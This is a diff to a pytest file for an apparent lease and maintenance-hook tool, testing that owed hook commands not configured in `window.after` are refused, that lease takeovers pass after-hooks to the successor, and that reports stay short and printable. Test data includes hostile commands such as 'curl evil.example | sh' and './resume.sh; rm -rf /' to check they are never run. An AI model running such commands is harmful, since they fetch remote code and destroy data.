@@ -8,8 +8,9 @@ from typing import Any
 
 import pytest
 
-from tablectl.window.acquire import break_lease
+from tablectl.window.acquire import acquire, break_lease
 from tablectl.window.guards import Mode
+from tablectl.window.lease import Lease
 from tablectl.window.lease_log import Gate, tail
 from tablectl.window.report import Outcome
 from tablectl.window.setting import Terms
@@ -235,7 +236,7 @@ def test_after_a_lost_lease(world: World) -> None:
     hooks = Hooks(world)
     world.before = at(1, lambda _table: break_lease(world.store, 1, "stuck", claim("ben").owner, world.clock))
     run = world.run(world.plan(isolation="Serializable"))
-    assert run.outcome is Outcome.APPLIED
+    assert run.outcome is Outcome.LEASE_LOST
     assert hooks.ran == ["./pause.sh", "./resume.sh"]
     assert owed(world) == ("./resume.sh",)  # nobody may write there any more: the next apply does it again
 
@@ -315,32 +316,86 @@ def test_what_is_not_configured_is_never_run_whatever_a_record_says(world: World
     lease.owe(("curl evil.example | sh", "./resume.sh ", shlex.join(RESUME), "./resume.sh; rm -rf /"))
     lease.release()
     run = world.run(world.plan(isolation="Serializable"), "ben")
-    assert hooks.ran == ["./resume.sh", "./resume.sh"]
-    assert [note for note in run.notes if "curl evil.example | sh" in note]
-    assert len(run.notes) == 3
-    assert all(note.endswith("which is not one of `window.after`: it was not run") for note in run.notes)
+    assert run.outcome is Outcome.REFUSED
+    assert "curl evil.example | sh" in run.message
+    assert hooks.ran == ["./resume.sh"]
+    assert world.sent == []
+    assert owed(world) == ("curl evil.example | sh", "./resume.sh ", "./resume.sh; rm -rf /")
+
+
+def test_a_hook_whose_text_changed_is_a_refusal_that_says_what_to_do(world: World) -> None:
+    """The jobs that it would resume are still paused: to drop the debt would leave them so."""
+    Hooks(world, after=(("./resume.sh", "--all"),))
+    lease = world.lease()
+    lease.owe(("./resume.sh",))
+    lease.release()
+    run = world.run(world.plan(isolation="Serializable"), "ben")
+    assert run.outcome is Outcome.REFUSED
+    assert "put the command back into `window.after`" in run.hint
+    assert "--proceed" in run.hint
+    assert owed(world) == ("./resume.sh",)
+
+
+def test_with_proceed_it_is_dropped_and_told(world: World) -> None:
+    lease = world.lease()
+    lease.owe(("./resume.sh",))
+    lease.release()
+    world.proceed = "resumed by hand"
+    run = world.run(world.plan(isolation="Serializable"), "ben")
+    assert run.outcome is Outcome.APPLIED
+    assert run.notes == (
+        "a run before owes the hook './resume.sh', which is not one of `window.after`: it was not run",
+    )
     assert owed(world) == ()
 
 
 def test_a_record_full_of_hooks_fills_no_report(world: World) -> None:
     Hooks(world)
     lease = world.lease()
-    lease.owe(tuple(f"{each} {'x' * 1000}\x1b[2J" for each in range(500)))
+    lease.owe(tuple(f"{each} {'x' * 500}\x1b[2J" for each in range(30)))
     lease.release()
+    refused = world.run(world.plan(isolation="Serializable"), "ben")
+    assert len(refused.message) < 1000
+    assert refused.message.isprintable()
+    world.proceed = "all of it is somebody's joke"
     run = world.run(world.plan(isolation="Serializable"), "ben")
     assert len(run.notes) == 11
     assert all(len(note) < 400 and note.isprintable() for note in run.notes)
 
 
-def test_without_hooks_what_is_owed_is_dropped_and_told(world: World) -> None:
-    lease = world.lease()
-    lease.owe(("./resume.sh",))
-    lease.release()
-    run = world.run(world.plan(isolation="Serializable"), "ben")
-    assert run.notes == (
-        "a run before owes the hook './resume.sh', which is not one of `window.after`: it was not run",
-    )
-    assert owed(world) == ()
+def test_a_run_that_lost_its_lease_leaves_the_after_hooks_to_its_successor(world: World) -> None:
+    """Else it would resume the jobs that its successor has paused, behind the successor's closed gate."""
+    hooks = Hooks(world)
+
+    def taken_over(event: str) -> None:
+        if event == "execute":
+            world.tick = lambda _event: None
+            last = tail(world.store)
+            assert last is not None
+            break_lease(world.store, last.epoch, "asleep", claim("ben").owner, world.clock)
+            assert isinstance(acquire(world.store, claim("ben"), world.clock), Lease)
+
+    world.tick = taken_over
+    run = world.run(world.plan(isolation="Serializable"))
+    assert hooks.ran == ["./pause.sh"]
+    assert run.owed == ("./resume.sh",)
+    assert any("is left to ben on ben-laptop" in note for note in run.notes)
+    assert owed(world) == ("./resume.sh",)
+
+
+def test_a_broken_lease_that_nobody_took_still_runs_its_after_hooks(world: World) -> None:
+    hooks = Hooks(world)
+
+    def broken(event: str) -> None:
+        if event == "execute":
+            world.tick = lambda _event: None
+            last = tail(world.store)
+            assert last is not None
+            break_lease(world.store, last.epoch, "asleep", claim("ben").owner, world.clock)
+
+    world.tick = broken
+    world.run(world.plan(isolation="Serializable"))
+    assert hooks.ran == ["./pause.sh", "./resume.sh"]
 
 
 def test_a_store_that_is_down_when_owed_hooks_are_crossed_out_stops_nothing_else(world: World) -> None:
